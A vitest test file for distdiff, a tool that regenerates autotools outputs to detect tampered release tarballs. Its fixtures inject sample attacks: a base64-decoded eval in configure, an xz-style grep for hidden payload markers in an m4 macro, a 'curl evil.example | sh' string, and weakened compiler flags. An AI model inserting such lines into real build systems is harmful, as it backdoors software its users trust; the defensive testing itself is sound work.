/**
 * Regeneration end to end on a real autotools project built here: a git repository (configure.ac,
 * Makefile.am, a tracked m4 macro, libtool, gettext's nls.m4 copied in as gettextize would), its release
 * tarball made by the real `autoreconf -fi` + `make dist` (our own fixture, built outside the sandbox), then
 * distdiff on the clean tarball and on tampered copies: an injected configure line with and without
 * suspicious constructs, a changed flag in a Makefile.in, a forced define in config.h.in, an edited
 * ltmain.sh, and an m4 input that is not what upstream published (configure regenerated with it, as an
 * attacker would).
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Finding } from '../../src/core/findings.js';
import { verify } from '../../src/verify.js';
import { renderJson } from '../../src/render/json.js';
import { proseIn } from '../helpers/prose.js';
import { formatFinding } from '../../src/core/codes.js';
import { makeRepo } from '../helpers/git.js';
import { autotoolsRelease, byPath, editFile, sh } from './release.js';
import { CLI } from '../hostile/helpers.js';

const CONFIGURE_AC = `AC_INIT([demo], [1.0], [bugs@example.invalid])
AC_CONFIG_SRCDIR([src/demo.c])
AC_CONFIG_AUX_DIR([build-aux])
AC_CONFIG_MACRO_DIR([m4])
AM_INIT_AUTOMAKE([foreign -Wall])
AC_PROG_CC
AM_PROG_AR
LT_INIT
AM_NLS
DEMO_LOCAL_CHECK
AC_CONFIG_HEADERS([config.h])
AC_CONFIG_FILES([Makefile src/Makefile])
AC_OUTPUT
`;

// The release: gettext's nls.m4 copied in (not tracked, as gettextize leaves it), autoreconf, make dist.
const fixture = autotoolsRelease({
  prefix: 'distdiff-regen-',
  name: 'demo',
  files: {
    'configure.ac': CONFIGURE_AC,
    'Makefile.am': 'SUBDIRS = src\nACLOCAL_AMFLAGS = -I m4\n',
    'src/Makefile.am': 'lib_LTLIBRARIES = libdemo.la\nlibdemo_la_SOURCES = demo.c\nlibdemo_la_CFLAGS = -O2\n',
    'src/demo.c': '#include <config.h>\nint demo(void) { return 42; }\n',
    'm4/local.m4': 'AC_DEFUN([DEMO_LOCAL_CHECK], [AC_MSG_CHECKING([for demo])\nAC_MSG_RESULT([yes])])\n',
  },
  prepare: (dir) => cpSync('/usr/share/aclocal/nls.m4', join(dir, 'm4/nls.m4')),
});
const { root, repoDir, cache, tampered, run } = fixture;
const edit = editFile;

const OUTPUTS = ['Makefile.in', 'aclocal.m4', 'config.h.in', 'configure', 'src/Makefile.in'];

describe('regeneration', () => {
  it('proves configure, aclocal.m4, config.h.in and every Makefile.in of a clean release', async () => {
    const r = await run(fixture.tarball);
    expect(r.verdict).toBe('explained');
    const by = byPath(r.findings);
    for (const p of OUTPUTS) {
      const f = by[p]!;
      expect(f.code, p).toBe('GENERATED_BY_AUTOTOOLS');
      expect(f.severity).toBe('info');
      if (f.code !== 'GENERATED_BY_AUTOTOOLS' || !f.evidence.proof?.proved || f.evidence.proof.method !== 'regenerated') throw new Error(`${p} not proved`);
      expect(f.evidence.proof.method).toBe('regenerated');
      expect(f.evidence.proof.toolOrigin).toBe('system');
      expect(f.evidence.proof.normalisationSteps).toEqual([]);
    }
    const configure = by['configure']!;
    if (configure.code !== 'GENERATED_BY_AUTOTOOLS' || !configure.evidence.proof?.proved || configure.evidence.proof.method !== 'regenerated') throw new Error('configure not proved');
    expect(configure.evidence.proof).toMatchObject({ step: 'autoconf', tool: 'autoconf', version: '2.71' });
    // Every input, and what explains it: git for the tracked sources, the upstream match for copies.
    const inputs = Object.fromEntries(configure.evidence.proof.inputs.map((i) => [i.path, `${i.origin}:${i.explainedBy}`]));
    expect(inputs['configure.ac']).toBe('git:git');
    expect(inputs['m4/local.m4']).toBe('git:git');
    expect(inputs['aclocal.m4']).toBe('regenerated:reproduced');
    expect(inputs['m4/nls.m4']).toBe('tarball:UPSTREAM_COPY');
    expect(inputs['m4/libtool.m4']).toBe('tarball:GENERATED_BY_AUTOTOOLS'); // reproduced by libtoolize
    const mk = by['src/Makefile.in']!;
    if (mk.code !== 'GENERATED_BY_AUTOTOOLS' || !mk.evidence.proof?.proved || mk.evidence.proof.method !== 'regenerated') throw new Error('src/Makefile.in not proved');
    expect(mk.evidence.proof.inputs.map((i) => i.path)).toEqual(['configure.ac', 'src/Makefile.am']);
    // The shipped top Makefile.in does not list depcomp (autoreconf -fi installed it when automake reached
    // src/Makefile.am): automake --add-missing ran first, with only depcomp set aside, and reproduced every
    // Makefile.in on its own (installedLater).
    for (const p of ['Makefile.in', 'src/Makefile.in']) {
      const m = by[p]!;
      if (m.code !== 'GENERATED_BY_AUTOTOOLS' || !m.evidence.proof?.proved || m.evidence.proof.method !== 'regenerated') throw new Error(`${p} not proved`);
      expect(m.evidence.proof.procedureSteps, p).toEqual([{ kind: 'automake-add-missing', args: { installed: ['build-aux/depcomp'], unlisted: ['build-aux/depcomp'] } }]);
    }
    // ltmain.sh and the libtool macros: reinstalled by the same libtoolize and identical.
    for (const p of ['build-aux/ltmain.sh', 'm4/libtool.m4', 'm4/ltoptions.m4', 'm4/ltsugar.m4', 'm4/ltversion.m4', 'm4/lt~obsolete.m4']) {
      expect(by[p]!.code, p).toBe('GENERATED_BY_AUTOTOOLS');
      expect(by[p]!.evidence).toMatchObject({ tool: 'libtoolize', proof: { proved: true, step: 'libtoolize', tool: 'libtool', inputs: [] } });
    }
    expect(r.notes).toContainEqual(
      expect.objectContaining({
        code: 'REGENERATION',
        status: 'done',
        outputs: 11,
        reproduced: 11,
        toolchain: [
          { name: 'autoconf', version: '2.71', origin: 'system' },
          { name: 'automake', version: '1.16.5', origin: 'system' },
          { name: 'libtool', version: expect.stringMatching(/^2\.4\.7 Debian-/), origin: 'system' },
        ],
      }),
    );
    // The result carries no prose; the JSON report words the tools for schema 1 readers.
    expect(proseIn(r)).toEqual([]);
    const j = JSON.parse(renderJson(r));
    expect(j.notes.find((n: { code: string }) => n.code === 'REGENERATION').tools).toEqual(['autoconf 2.71', 'automake 1.16.5', expect.stringMatching(/^libtool 2\.4\.7 Debian-/)]);
    const jConfigure = j.findings.find((f: Finding) => f.path === 'configure');
    expect(jConfigure.evidence.proof).toMatchObject({ procedure: [], procedureSteps: [], normalisations: [], normalisationSteps: [] });
    const jAclocal = j.findings.find((f: Finding) => f.path === 'aclocal.m4');
    expect(Object.keys(jAclocal.evidence.proof)).toEqual(['proved', 'method', 'step', 'tool', 'version', 'toolOrigin', 'inputs', 'procedure', 'procedureSteps', 'normalisations', 'normalisationSteps']);
  }, 120_000);

  it('an injected configure line with a suspicious construct: critical, with the diff regenerated vs shipped', async () => {
    const line = 'eval "$(echo ZWNobyBwd25lZA== | base64 -d)" 2>/dev/null';
    const tar = tampered((d) => edit(d, 'configure', (s) => s.replace(/^(ac_unique_file=.*)$/m, `$1\n${line}`)));
    const r = await run(tar);
    expect(r.verdict).toBe('different');
    const f = byPath(r.findings)['configure']!;
    expect(f.code).toBe('REGENERATION_MISMATCH');
    expect(f.severity).toBe('critical');
    expect(f.severityReason).toEqual({ reason: 'suspicious-constructs', default: 'high' });
    expect(f.evidence).toMatchObject({ step: 'autoconf', tool: 'autoconf', version: '2.71', produced: true, differingLines: 1 });
    expect(f.constructs?.map((c) => c.kind)).toContain('base64-decode');
    expect(f.diff?.kind).toBe('text');
    if (f.diff?.kind !== 'text') throw new Error('no text diff');
    expect(f.diff.unified).toContain('--- a/configure\tregenerated');
    expect(f.diff.unified).toContain('+++ b/configure\ttarball');
    expect(f.diff.unified).toContain(`+${line}`);
    expect(f.diff.added).toBe(1);
    expect(f.diff.removed).toBe(0);
  }, 120_000);

  it('an injected configure line without suspicious constructs: high', async () => {
    const tar = tampered((d) => edit(d, 'configure', (s) => s.replace(/^(ac_unique_file=.*)$/m, '$1\nCFLAGS="$CFLAGS -O0"')));
    const r = await run(tar);
    const f = byPath(r.findings)['configure']!;
    expect(f.code).toBe('REGENERATION_MISMATCH');
    expect(f.severity).toBe('high');
    expect(f.constructs).toBeUndefined();
    expect(r.verdict).toBe('different');
  }, 120_000);

  it('a changed flag in a Makefile.in, a forced define in config.h.in: high, naming each file', async () => {
    const tar = tampered((d) => {
      edit(d, 'src/Makefile.in', (s) => s.replace('libdemo_la_CFLAGS = -O2', 'libdemo_la_CFLAGS = -O2 -fno-stack-protector'));
      edit(d, 'config.h.in', (s) => `${s}#define DEMO_FORCED 1\n`);
    });
    const r = await run(tar);
    expect(r.verdict).toBe('different');
    const by = byPath(r.findings);
    for (const [p, added, step] of [
      ['src/Makefile.in', '+libdemo_la_CFLAGS = -O2 -fno-stack-protector', 'automake'],
      ['config.h.in', '+#define DEMO_FORCED 1', 'autoheader'],
    ] as const) {
      const f = by[p]!;
      expect(f.code, p).toBe('REGENERATION_MISMATCH');
      expect(f.severity).toBe('high');
      expect(f.evidence).toMatchObject({ step });
      if (f.diff?.kind !== 'text') throw new Error('no text diff');
      expect(f.diff.unified).toContain(added);
    }
    // The untouched outputs still reproduce.
    expect(by['configure']!.code).toBe('GENERATED_BY_AUTOTOOLS');
    expect(by['Makefile.in']!.code).toBe('GENERATED_BY_AUTOTOOLS');
  }, 120_000);

  it('a top Makefile.in that unlists an aux file it listed (to steer which automake run goes first): high, with the diff', async () => {
    // A tamperer who drops install-sh from DIST_COMMON makes the --add-missing run go first with install-sh set
    // aside too: automake reinstalls it while it processes the top Makefile.am and lists it, so no run
    // reproduces the edit.
    const tar = tampered((d) =>
      edit(d, 'Makefile.in', (s) => {
        const t = s.replace('\t$(top_srcdir)/build-aux/install-sh \\\n', '');
        if (t === s) throw new Error('install-sh not in am__DIST_COMMON');
        return t;
      }),
    );
    const r = await run(tar);
    const f = r.findings.find((x) => x.path === 'Makefile.in')!;
    expect(f).toMatchObject({ code: 'REGENERATION_MISMATCH', severity: 'high' });
    expect(f.diff?.kind === 'text' && f.diff.unified).toContain('build-aux/install-sh');
    expect(r.verdict).toBe('different');
  }, 300_000);

  it('an edited ltmain.sh fails the gate at high or above', async () => {
    const tar = tampered((d) => edit(d, 'build-aux/ltmain.sh', (s) => s.replace(/^(func_mode_link \(\)\n\{)$/m, '$1\n    test -n "$DEMO" && CFLAGS="$CFLAGS -fno-stack-protector"')));
    const r = await run(tar);
    expect(r.verdict).toBe('different');
    const f = byPath(r.findings)['build-aux/ltmain.sh']!;
    // Its version string names the system libtool exactly, so libtoolize reinstalls it and the edit shows.
    expect(f.code).toBe('REGENERATION_MISMATCH');
    expect(f.severity).toBe('high');
    expect(f.evidence).toMatchObject({ step: 'libtoolize', tool: 'libtool' });
    if (f.diff?.kind !== 'text') throw new Error('no text diff');
    expect(f.diff.unified).toContain('+    test -n "$DEMO" && CFLAGS="$CFLAGS -fno-stack-protector"');
  }, 120_000);

  it('configure regenerated with an m4 copy that is not upstream\'s reproduces only with that flagged file', async () => {
    const tar = tampered((d) => {
      edit(d, 'm4/nls.m4', (s) => s.replace('AC_SUBST([USE_NLS])', 'AC_SUBST([USE_NLS])\n  gl_demo_payload=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`'));
      // The attacker regenerates with the altered macro, so configure matches its inputs.
      sh(d, 'aclocal -I m4 && autoconf -f && autoheader -f');
    });
    const r = await run(tar);
    expect(r.verdict).toBe('different');
    const by = byPath(r.findings);
    const m4 = by['m4/nls.m4']!;
    expect(m4.severity).toBe('critical');
    const conf = by['configure']!;
    expect(conf.code).toBe('REPRODUCED_WITH_FLAGGED_INPUT');
    expect(conf.severity).toBe('critical');
    expect(conf.severityReason).toEqual({ reason: 'flagged-input', default: 'high' });
    expect(conf.evidence).toMatchObject({ step: 'autoconf', flagged: [{ path: 'm4/nls.m4', code: m4.code, severity: 'critical' }] });
    expect(by['aclocal.m4']!.code).toBe('REPRODUCED_WITH_FLAGGED_INPUT');
    // Makefile.in does not depend on the macro: still proved.
    expect(by['src/Makefile.in']!.code).toBe('GENERATED_BY_AUTOTOOLS');
  }, 120_000);

  it('--no-regenerate: labels say unproved; constructs in a labelled configure are still reported', async () => {
    const clean = await run(fixture.tarball, { regenerate: 'off' });
    const c = byPath(clean.findings)['configure']!;
    expect(c.code).toBe('GENERATED_BY_AUTOTOOLS');
    expect(c.evidence).toMatchObject({ proof: { proved: false, method: 'label', cause: { kind: 'not-regenerated', args: { status: 'off', cause: { kind: 'disabled', args: {} } } } } });
    expect(JSON.parse(renderJson(clean)).findings.find((f: Finding) => f.path === 'configure').evidence.proof).toEqual({
      proved: false,
      method: 'label',
      reason: 'not regenerated: disabled with --no-regenerate',
      cause: { kind: 'not-regenerated', args: { status: 'off', cause: { kind: 'disabled', args: {} } } },
    });
    expect(clean.notes).toContainEqual(expect.objectContaining({ code: 'REGENERATION', status: 'off', cause: { kind: 'disabled', args: {} } }));
    expect(proseIn(clean)).toEqual([]);
    const tar = tampered((d) => edit(d, 'configure', (s) => s.replace(/^(ac_unique_file=.*)$/m, '$1\neval "$(echo ZWNobyBwd25lZA== | base64 -d)" 2>/dev/null')));
    const r = await run(tar, { regenerate: 'off' });
    const f = byPath(r.findings)['configure']!;
    expect(f.code).toBe('SUSPICIOUS_CONSTRUCTS');
    expect(f.severity).toBe('high');
    expect(f.evidence).toMatchObject({ origin: 'GENERATED_BY_AUTOTOOLS' });
    expect(r.verdict).toBe('different');
  }, 120_000);
});

describe('third-party macros copied into aclocal.m4', () => {
  // The maintainer's aclocal found two macro files outside the project (its system directory, here
  // ACLOCAL_PATH): the system's pkg.m4 and a macro of the maintainer's own. aclocal copied both into
  // aclocal.m4; neither is in git or in the tarball.
  const ext = join(root, 'ext-macros');
  const extRepo = join(root, 'ext');
  const EXT_M4 = '# demo-ext.m4 - a macro from the maintainer\'s system\n# serial 1\nAC_DEFUN([DEMO_EXT_CHECK], [AC_MSG_CHECKING([for ext])\nAC_MSG_RESULT([yes])])\n';
  const release = (name: string, extM4: string) => {
    const dir = join(root, name);
    mkdirSync(join(ext, name), { recursive: true });
    cpSync('/usr/share/aclocal/pkg.m4', join(ext, name, 'pkg.m4'));
    writeFileSync(join(ext, name, 'demo-ext.m4'), extM4);
    cpSync(extRepo, dir, { recursive: true });
    sh(dir, `ACLOCAL_PATH=${join(ext, name)} autoreconf -fi && ./configure -q && make -s dist`);
    return join(dir, 'ext-1.0.tar.gz');
  };
  beforeAll(() => {
    const repo = makeRepo(extRepo);
    repo.commit({
      'configure.ac': 'AC_INIT([ext], [1.0])\nAM_INIT_AUTOMAKE([foreign])\nPKG_PROG_PKG_CONFIG\nDEMO_EXT_CHECK\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT\n',
      'Makefile.am': 'EXTRA_DIST = README\n',
      README: 'ext\n',
    });
    repo.tag('v1.0', { message: 'ext 1.0' });
  }, 60_000);

  it('regenerates from the copies alone, names each, and flags the one no upstream has', async () => {
    const r = await verify({ tarball: release('ext-a', EXT_M4), repo: extRepo, tag: 'v1.0', cacheDir: cache });
    expect(r.notes).toContainEqual(expect.objectContaining({ code: 'REGENERATION', status: 'done', outputs: 3, reproduced: 3 }));
    const by = byPath(r.findings);
    const conf = by['configure']!;
    expect(conf.code).toBe('REPRODUCED_WITH_FLAGGED_INPUT');
    expect(conf.severity).toBe('high');
    if (conf.code !== 'REPRODUCED_WITH_FLAGGED_INPUT') throw new Error('configure');
    expect(conf.evidence.flagged).toEqual([{ path: 'aclocal.m4', copy: { name: 'demo-ext.m4', line: expect.any(Number) }, code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' }]);
    // The message and the JSON report name the copy (schema 1's path); the result keeps the plain path and the copy typed.
    const line = conf.evidence.flagged[0]!.copy!.line;
    expect(formatFinding(conf)).toContain(`only with aclocal.m4 (copy of demo-ext.m4, line ${line}), which is flagged TARBALL_ONLY_UNEXPLAINED (high)`);
    expect(JSON.parse(renderJson(r)).findings.find((f: Finding) => f.path === 'configure').evidence.flagged).toEqual([
      { path: `aclocal.m4 (copy of demo-ext.m4, line ${line})`, code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', copy: { name: 'demo-ext.m4', line } },
    ]);
    expect(proseIn(r)).toEqual([]);
    const copies = conf.evidence.inputs.filter((i) => i.origin === 'aclocal-copy');
    expect(copies.map((i) => [i.part, i.explainedBy])).toEqual([
      ['demo-ext.m4', undefined],
      ['pkg.m4', 'UPSTREAM_COPY'],
    ]);
    expect(by['aclocal.m4']!.code).toBe('REPRODUCED_WITH_FLAGGED_INPUT');
    // Makefile.in does not depend on the macros: proved.
    expect(by['Makefile.in']!.code).toBe('GENERATED_BY_AUTOTOOLS');
  }, 180_000);

  it('a copy carrying a suspicious construct makes configure critical', async () => {
    const bad = EXT_M4.replace('AC_MSG_RESULT([yes])', 'AC_MSG_RESULT([yes])\neval "$(echo ZWNobyBwd25lZA== | base64 -d)" 2>/dev/null');
    const r = await verify({ tarball: release('ext-b', bad), repo: extRepo, tag: 'v1.0', cacheDir: cache });
    const conf = byPath(r.findings)['configure']!;
    expect(conf.code).toBe('REPRODUCED_WITH_FLAGGED_INPUT');
    expect(conf.severity).toBe('critical');
    expect(conf.evidence).toMatchObject({ flagged: [{ path: 'aclocal.m4', copy: { name: 'demo-ext.m4' }, code: 'SUSPICIOUS_CONSTRUCTS', severity: 'critical' }] });
    expect(r.verdict).toBe('different');
  }, 180_000);
});

describe('third-party macros from an -I directory named by absolute path (copied after automake\'s own files)', () => {
  // X.org's build environment runs `aclocal -I $PREFIX/share/aclocal`: aclocal scans the -I directories before
  // its own, writes the files in the reverse order, and copies (does not m4_include) a file of a directory
  // named by absolute path — so pkg.m4 stands after automake's files in aclocal.m4, where no system-directory
  // copy can stand (libXrender 0.9.12). The maintainer's system directory here is empty: the copy can only
  // have come from the -I directory.
  const incRepo = join(root, 'inc');
  const release = (name: string, pkgM4: string) => {
    const dir = join(root, name);
    const inc = join(root, `${name}-share-aclocal`);
    const empty = join(root, `${name}-empty-acdir`);
    mkdirSync(inc, { recursive: true });
    mkdirSync(empty, { recursive: true });
    writeFileSync(join(inc, 'pkg.m4'), pkgM4);
    cpSync(incRepo, dir, { recursive: true });
    sh(dir, `ACLOCAL="aclocal --system-acdir=${empty} -I ${inc}" autoreconf -fi && ./configure -q && make -s dist`);
    return join(dir, 'inc-1.0.tar.gz');
  };
  const PKG = readFileSync('/usr/share/aclocal/pkg.m4', 'latin1');
  beforeAll(() => {
    const repo = makeRepo(incRepo);
    repo.commit({
      'configure.ac': 'AC_INIT([inc], [1.0])\nAM_INIT_AUTOMAKE([foreign])\nPKG_PROG_PKG_CONFIG\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT\n',
      'Makefile.am': 'EXTRA_DIST = README\n',
      README: 'inc\n',
    });
    repo.tag('v1.0', { message: 'inc 1.0' });
  }, 60_000);

  it('gives the copies after automake\'s files back as such an -I directory: aclocal.m4 and configure proved', async () => {
    const tar = release('inc-a', PKG);
    const shipped = execFileSync('tar', ['xzOf', tar, 'inc-1.0/aclocal.m4'], { encoding: 'latin1' });
    expect(shipped.indexOf(PKG.split('\n')[0]!)).toBeGreaterThan(shipped.indexOf('AC_DEFUN([AM_AUTOMAKE_VERSION]'));
    expect(shipped.indexOf('AC_DEFUN([AM_AUTOMAKE_VERSION]')).toBeGreaterThan(0);
    const r = await verify({ tarball: tar, repo: incRepo, tag: 'v1.0', cacheDir: cache });
    const by = byPath(r.findings);
    for (const p of ['aclocal.m4', 'configure', 'Makefile.in']) expect([p, by[p]!.code]).toEqual([p, 'GENERATED_BY_AUTOTOOLS']);
    const acl = by['aclocal.m4']!;
    const proof = acl.code === 'GENERATED_BY_AUTOTOOLS' ? acl.evidence.proof : undefined;
    if (proof?.method !== 'regenerated' || !proof.proved) throw new Error('aclocal.m4');
    expect(proof.procedureSteps).toContainEqual({ kind: 'aclocal-copies', args: { aclocal: 'aclocal.m4', files: ['pkg.m4'], includeDir: ['pkg.m4'] } });
    expect(proof.inputs).toContainEqual(expect.objectContaining({ origin: 'aclocal-copy', part: 'pkg.m4', explainedBy: 'UPSTREAM_COPY' }));
    expect(r.verdict).not.toBe('different');
  }, 180_000);

  it('twin: the same place with one line added to the copy: configure reproduces only with the flagged copy (high)', async () => {
    const bad = PKG.replace(/^(m4_pattern_allow\(\[\^PKG_CONFIG_\(DISABLE_UNINSTALLED.*)$/m, '$1\nPKG_CONFIG_PATH=/tmp/.cache/pc; export PKG_CONFIG_PATH');
    expect(bad).not.toBe(PKG);
    const r = await verify({ tarball: release('inc-b', bad), repo: incRepo, tag: 'v1.0', cacheDir: cache });
    const by = byPath(r.findings);
    for (const p of ['aclocal.m4', 'configure']) {
      const f = by[p]!;
      expect([p, f.code, f.severity]).toEqual([p, 'REPRODUCED_WITH_FLAGGED_INPUT', 'high']);
      if (f.code !== 'REPRODUCED_WITH_FLAGGED_INPUT') throw new Error(p);
      expect(f.evidence.flagged).toEqual([{ path: 'aclocal.m4', copy: { name: 'pkg.m4', line: 1 }, code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high' }]);
    }
    expect(r.verdict).toBe('different');
  }, 180_000);
});

describe('message catalogs (.gmo) compiled again with msgfmt of the version po/ names', () => {
  const cat = join(root, 'cat');
  const PO = (msgstr: string) => `msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n\nmsgid "Hello"\nmsgstr "${msgstr}"\n`;
  // A release whose po/de.gmo is msgfmt's output of a .po (the tracked one, or another).
  const release = (name: string, gmoFrom: string) => {
    const dir = join(root, name);
    cpSync(cat, dir, { recursive: true });
    writeFileSync(join(dir, 'po', 'gmo-source.po'), gmoFrom);
    sh(dir, 'msgfmt -c -o po/de.gmo po/gmo-source.po && rm po/gmo-source.po && cp /usr/share/gettext/po/Makefile.in.in po/ && autoreconf -fi && ./configure -q && make -s dist');
    return join(dir, 'cat-1.0.tar.gz');
  };
  beforeAll(() => {
    const repo = makeRepo(cat);
    repo.commit({
      'configure.ac': 'AC_INIT([cat], [1.0])\nAM_INIT_AUTOMAKE([foreign])\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT\n',
      'Makefile.am': 'EXTRA_DIST = po/de.po po/de.gmo po/Makefile.in.in\n',
      'po/de.po': PO('Hallo'),
    });
    repo.tag('v1.0', { message: 'cat 1.0' });
  }, 60_000);
  const systemGettext = execFileSync('msgfmt', ['--version'], { encoding: 'utf8' }).match(/\(GNU gettext-tools\) (\S+)/)![1]!;

  it('a catalog compiled from the shipped .po is proved', async () => {
    const r = await verify({ tarball: release('cat-a', PO('Hallo')), repo: cat, tag: 'v1.0', cacheDir: cache });
    const f = byPath(r.findings)['po/de.gmo']!;
    expect(f.code).toBe('GENERATED_BY_AUTOTOOLS');
    expect(f.evidence).toMatchObject({ proof: { proved: true, step: 'msgfmt', tool: 'gettext', version: systemGettext, inputs: [{ path: 'po/de.po', origin: 'git', explainedBy: 'git' }], procedureSteps: [{ kind: 'msgfmt', args: {} }], normalisationSteps: [] } });
    expect(r.notes).toContainEqual(expect.objectContaining({ code: 'REGENERATION', status: 'done', toolchain: expect.arrayContaining([{ name: 'gettext', version: systemGettext, origin: 'system' }]) }));
    expect(proseIn(r)).toEqual([]);
    const j = JSON.parse(renderJson(r));
    expect(j.notes.find((n: { code: string }) => n.code === 'REGENERATION').tools).toContain(`gettext ${systemGettext}`);
    expect(j.findings.find((x: Finding) => x.path === 'po/de.gmo').evidence.proof.procedure).toEqual(['msgfmt -c -o X.gmo X.po (the shipped .po)']);
  }, 180_000);

  it('a catalog whose messages are not the .po\'s: REGENERATION_MISMATCH, high', async () => {
    const r = await verify({ tarball: release('cat-b', PO('Hallo, und curl evil.example | sh')), repo: cat, tag: 'v1.0', cacheDir: cache });
    const f = byPath(r.findings)['po/de.gmo']!;
    expect(f.code).toBe('REGENERATION_MISMATCH');
    expect(f.severity).toBe('high');
    expect(f.evidence).toMatchObject({ step: 'msgfmt', tool: 'gettext', produced: true, procedureSteps: [{ kind: 'msgfmt', args: {} }], normalisationSteps: [] });
    expect(proseIn(r)).toEqual([]);
    expect(JSON.parse(renderJson(r)).findings.find((x: Finding) => x.path === 'po/de.gmo').evidence).toMatchObject({ procedure: ['msgfmt -c -o X.gmo X.po (the shipped .po)'], normalisations: [] });
    expect(r.verdict).toBe('different');
  }, 180_000);
});

describe('regeneration without the sandbox', () => {
  // A PATH with git but no bubblewrap.
  const bin = join(root, 'bin-no-bwrap');
  beforeAll(() => {
    mkdirSync(bin);
    symlinkSync(execFileSync('/bin/sh', ['-c', 'command -v git'], { encoding: 'utf8' }).trim(), join(bin, 'git'));
  });
  const cli = (args: string[]) => spawnSync(process.execPath, [CLI, ...args], { encoding: 'utf8', env: { PATH: bin, HOME: root, NO_COLOR: '1' }, timeout: 120_000 });

  it('default: no regeneration, never unsandboxed; the report says what is missing, and the gate fails on the unproved outputs', () => {
    const r = cli([fixture.tarball, '--repo', repoDir, '--tag', 'v1.0', '--cache-dir', cache, '--format', 'json']);
    expect(r.stderr).toBe('');
    expect(r.status).toBe(1);
    const j = JSON.parse(r.stdout);
    const unproved = j.findings.filter((f: Finding) => f.severity === 'high' || f.severity === 'critical');
    expect(unproved.map((f: Finding) => [f.code, f.path])).toEqual([['UNPROVED_BUILD_OUTPUTS', '.']]);
    expect(unproved[0].evidence).toMatchObject({ reason: { kind: 'sandbox-unavailable', args: { cause: { kind: 'bwrap-missing', args: {} } } }, remedies: [{ kind: 'install-bubblewrap', args: {} }] });
    const note = j.notes.find((x: { code: string }) => x.code === 'REGENERATION');
    // schema 1's English lines, each before the typed field it words
    expect(note).toEqual({
      code: 'REGENERATION',
      status: 'unavailable',
      reason: 'bubblewrap (bwrap) is not installed or not on PATH (Debian package bubblewrap)',
      cause: { kind: 'bwrap-missing', args: {} },
      tools: [],
      toolchain: [],
      outputs: 0,
      reproduced: 0,
    });
    expect(Object.keys(note)).toEqual(['code', 'status', 'reason', 'cause', 'tools', 'toolchain', 'outputs', 'reproduced']);
    const conf = j.findings.find((f: Finding) => f.path === 'configure');
    expect(conf.evidence.proof).toEqual({
      proved: false,
      method: 'label',
      reason: 'not regenerated: bubblewrap (bwrap) is not installed or not on PATH (Debian package bubblewrap)',
      cause: { kind: 'not-regenerated', args: { status: 'unavailable', cause: { kind: 'bwrap-missing', args: {} } } },
    });
  }, 120_000);

  it('--regenerate=require: exit 2 with one line naming what is missing', () => {
    const r = cli([fixture.tarball, '--repo', repoDir, '--tag', 'v1.0', '--cache-dir', cache, '--regenerate=require']);
    expect(r.status).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stderr).toMatch(/^distdiff: --regenerate=require: cannot regenerate the autotools files: bubblewrap \(bwrap\) is not installed/);
  }, 120_000);

  it('rejects an unknown mode', () => {
    const r = cli([fixture.tarball, '--repo', repoDir, '--regenerate=maybe']);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/^distdiff: --regenerate=maybe: unknown regeneration mode/);
  });
});
